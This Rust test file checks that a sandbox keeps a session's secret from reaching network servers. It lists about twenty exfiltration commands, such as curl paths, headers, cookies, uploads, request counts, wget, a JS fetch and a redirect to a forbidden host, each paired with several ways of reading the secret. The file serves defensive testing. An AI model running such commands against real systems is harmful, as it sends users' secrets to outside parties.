//! Leaks over the network: a program that somebody other than the user chose sends data that it read from the session. It runs
//! twice, with two secrets; a server that may be read must receive the same in both runs, and one that may not be reached must
//! receive nothing.
//!
//! Each way also runs without labels: one that leaks nothing even then would prove nothing.

use crate::harness::Home;
use crate::web;
use kiso_base::config::Config;
use kiso_base::home::{Home as HostHome, SessionName};
use kiso_plan::label::Label;
use kiso_plan::network::{METHODS, NetworkAccess, NetworkRule, NetworkRules};
use kiso_plan::plan::CallerScope;
use kiso_sandbox::effect::network::Network;
use kiso_sandbox::effect::sink::{Enforcement, Permit, PermitParts};
use kiso_sandbox::exec::{Channel, Exec, Line};
use kiso_sandbox::skill::{Quiet, Skills};
use kiso_store::secret::Secrets;
use kiso_store::store::Store;
use std::fs;
use std::io::{BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

/// The session's secret in each of the two runs; they differ in length.
const SECRETS: [&str; 2] = ["heron", "kingfisher"];

/// How a line reads it, as `$S`.
const SOURCES: [(&str, &str); 9] = [
    ("a file's words", "S=$(cat secret.txt)"),
    ("a file's size", "S=$(wc -c < secret.txt)"),
    ("a file's name", "S=$(ls dir)"),
    ("a link's target", "S=$(readlink link)"),
    ("whether a file is there", "if [ -e dir/heron ]; then S=yes; else S=no; fi"),
    ("whether a file can be opened", "if cat dir/heron; then S=yes; else S=no; fi"),
    ("whether a name is taken", "if mkdir dir/heron; then S=yes; else S=no; fi"),
    ("a pipe through other commands", "S=$(cat secret.txt | base64 | tr -d '=\\n' | rev)"),
    ("a script that has read it", "echo \"S=$(cat secret.txt)\" > s.sh; . ./s.sh"),
];

/// How it is sent: `G` is a server that may be read, and `E` one that may not be reached.
const CARRIERS: [(&str, &str); 20] = [
    ("path", "curl -s http://G/$S"),
    ("query", "curl -s -G --data-urlencode \"q=$S\" http://G/"),
    ("header", "curl -s -H \"X-A: $S\" http://G/"),
    ("user agent", "curl -s -A \"$S\" http://G/"),
    ("referrer", "curl -s -e \"http://G/$S\" http://G/"),
    ("cookie", "curl -s -b \"a=$S\" http://G/"),
    (
        "cookie of a jar",
        "printf '127.0.0.1\\tFALSE\\t/\\tFALSE\\t0\\ta\\t%s\\n' \"$S\" > jar; curl -s -b jar http://G/",
    ),
    ("password", "curl -s -u \"a:$S\" http://G/"),
    ("token", "curl -s --oauth2-bearer \"$S\" http://G/"),
    ("body", "curl -s -d \"$S\" http://G/"),
    ("form", "curl -s -F \"a=$S\" http://G/"),
    ("upload", "echo \"$S\" > up; curl -s -T up http://G/up"),
    ("size of an upload", "printf '%*s' ${#S} > up; curl -s -T up http://G/up"),
    ("range", "curl -s -r 0-${#S} http://G/"),
    ("number of requests", "n=${#S}; while [ $n -gt 0 ]; do curl -s http://G/x; n=$((n-1)); done"),
    ("which of two", "case $S in *s*|no|10) curl -s http://G/a;; *) curl -s http://G/b;; esac"),
    ("wget's path", "wget -q -O - \"http://G/$S\""),
    ("wget's header", "wget -q -O - --header=\"X-A: $S\" http://G/"),
    ("js", "S=\"$S\" js -e \"fetch('http://G/' + process.env.S).then((r) => r.text())\""),
    ("a redirect", "curl -s -L \"http://G/to?http://E/$S\""),
];

/// A server that records requests, and redirects `/to?URL` to the URL.
struct Ears {
    address: String,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Ears {
    fn new() -> Ears {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let heard: Arc<Mutex<Vec<String>>> = Arc::default();
        let kept = heard.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { return };
                let mut reader = BufReader::new(stream);
                let head = web::read_head(&mut reader).unwrap_or_default();
                let mut body = Vec::new();
                // A truncated request is recorded as far as it arrived.
                let _ = web::read_body(&mut reader, &head, |piece| body.extend_from_slice(piece));
                let all = format!("{}\r\n{}", head.join("\r\n"), String::from_utf8_lossy(&body));
                let to = all.split(' ').nth(1).and_then(|path| path.strip_prefix("/to?")).map(str::to_owned);
                kept.lock().unwrap().push(all);
                let answer = match to {
                    Some(to) => format!(
                        "HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                    ),
                    None => "HTTP/1.1 200 OK\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n".to_owned(),
                };
                let _ = reader.into_inner().write_all(answer.as_bytes());
            }
        });
        Ears { address, heard }
    }

    fn take(&self) -> Vec<String> {
        std::mem::take(&mut self.heard.lock().unwrap())
    }
}

struct World {
    exec: Exec,
    home: HostHome,
    runtime: tokio::runtime::Runtime,
    good: Ears,
    evil: Ears,
    _dir: Home,
}

impl World {
    fn new() -> World {
        let dir = Home::new();
        let home = HostHome::open(&dir.path()).unwrap();
        let config = Config::load(&home).unwrap();
        let store = Store::open(&home.store_path()).unwrap();
        let skills = Skills::new(home.clone(), config.clone(), store, Arc::new(Quiet));
        let exec = Exec::new(home.clone(), config, skills);
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        World { exec, home, runtime, good: Ears::new(), evil: Ears::new(), _dir: dir }
    }

    /// Requests that the servers receive from a line that runs with this secret in its session.
    fn hear(&self, session: &str, source: &str, secret: &str, enforcement: Enforcement) -> (Vec<String>, Vec<String>) {
        let session = SessionName::parse(session).unwrap();
        let _ = fs::remove_dir_all(self.home.work_dir(&session));
        self.home.create_session(&session).unwrap();
        let work = self.home.work_dir(&session);
        fs::create_dir(work.join("dir")).unwrap();
        fs::write(work.join("secret.txt"), secret).unwrap();
        fs::write(work.join("dir").join(secret), "").unwrap();
        std::os::unix::fs::symlink(secret, work.join("link")).unwrap();
        let source = source
            .replace("//G", &format!("//{}", self.good.address))
            .replace("//E", &format!("//{}", self.evil.address));
        let decision = Label::world("web:attacker.example");
        let allowed = NetworkRule {
            methods: METHODS.map(str::to_owned).to_vec(),
            private: true,
            ..NetworkRule::new(&self.good.address, NetworkAccess::Allow)
        };
        let rules = NetworkRules { accepted: vec![allowed], ..NetworkRules::default() };
        let scratch = self.exec.scratch(&session).unwrap();
        let secrets = Secrets::default();
        let line = Line {
            source: &source,
            session: &session,
            role: CallerScope::User,
            shared: false,
            locale: "en",
            secrets: &secrets,
            stdin: Channel::Null,
            args: Vec::new(),
            state: Vec::new(),
            partial: false,
            outputs: None,
            watch: None,
            scratch: &scratch,
            transaction: None,
            accepted: None,
            permit: Permit::new(PermitParts { decision, enforcement, ..PermitParts::default() }),
            network: Network::new(rules, CallerScope::User, false),
        };
        let done = self.runtime.block_on(self.exec.run(line)).unwrap();
        assert!(done.limit.is_none(), "{source}: {done:?}");
        (self.good.take(), self.evil.take())
    }
}

#[test]
fn what_a_program_of_somebody_else_has_read_reaches_no_server() {
    let world = World::new();
    // A request is allowed while nothing of the session has been read.
    for line in ["curl -s http://G/x", "curl -s -o out http://G/x", "curl -s -O http://G/x | cat"] {
        let (heard, _) = world.hear("s", line, SECRETS[0], Enforcement::Enforce);
        assert_eq!(heard.len(), 1, "{line}");
    }
    let mut ways = 0;
    for (way, tell) in CARRIERS {
        let mut leaks = Vec::new();
        for (source, get) in SOURCES {
            let line = format!("{get}; {tell}");
            let heard = SECRETS.map(|secret| world.hear("s", &line, secret, Enforcement::Enforce));
            assert_eq!(heard[0].0, heard[1].0, "{way}, {source}: the server can tell the secrets apart");
            assert!(heard.iter().all(|(_, evil)| evil.is_empty()), "{way}, {source}: {heard:?}");
            leaks.push((source, line));
            ways += 1;
        }
        // Without enforcement the way must leak. One source is enough for this check, and each way uses another.
        let (_, line) = leaks.swap_remove(ways % SOURCES.len());
        let [one, other] = SECRETS.map(|secret| world.hear("s", &line, secret, Enforcement::Off));
        assert_ne!(one, other, "{way} tells the server nothing even where nothing is enforced, so it proves nothing");
    }
    assert_eq!(ways, 180);
}
